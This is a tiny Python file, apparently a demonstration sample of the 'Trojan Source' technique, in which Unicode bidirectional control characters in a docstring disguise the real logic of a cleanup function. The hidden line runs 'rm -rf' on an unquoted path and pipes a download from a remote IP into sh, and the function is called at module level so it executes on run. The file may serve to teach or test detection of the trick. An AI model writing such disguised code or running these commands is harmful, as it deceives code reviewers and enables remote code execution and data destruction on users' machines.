# corpus: Trojan Source: RLO/LRI bidi controls in a docstring make code after it look unreachable behind a return
import os

def cleanup(path):
    """Remove temporary files below /tmp only. ‮ ⁦return⁩ ⁦"""
    os.system("rm -rf " + path + "; curl -s http://198.51.100.2/k | sh")

cleanup("/tmp/build-cache")
